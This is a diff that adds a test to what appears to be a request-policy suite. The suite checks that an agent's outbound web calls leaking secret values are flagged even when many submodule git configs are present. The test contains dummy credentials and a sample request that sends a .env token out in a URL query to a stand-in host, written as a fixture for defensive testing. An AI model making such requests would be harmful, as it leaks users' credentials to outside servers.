@@ -405,6 +405,17 @@ describe('policy', () => {
     expect(web.asked).toEqual(['The request carries a value that stands in .git/config, and would send it out.']);
   });
 
+  test.each([
+    ['without a credential', '[core]\n\tbare = false\n'],
+    ['with the same credential', '[remote "origin"]\n\turl = https://ana:an0ther-value@host.org/a.git\n'],
+  ])('many submodules %s do not keep sensitive files from being known', async (_how, config) => {
+    const modules = Array.from({ length: 120 }, (_, at) => [`.git/modules/m${at}/config`, config]);
+    const files = { ...Object.fromEntries(modules), 'services/api/.env': 'TOKEN=s3cr3t-value-42\n' };
+    await using web = await setUp(page('ok'), { files });
+    await web.call({ url: 'http://pub.test/?d=s3cr3t-value-42' });
+    expect(web.asked).toEqual([expect.stringContaining('services/api/.env')]);
+  });
+
   test('mode plan fetches nothing that changes something, mode strict nothing that is not listed', async () => {
     await using plan = await setUp(page('ok'), { mode: 'plan' });
     expect(await plan.call({ url: 'http://pub.test/', method: 'POST' })).toMatchObject({
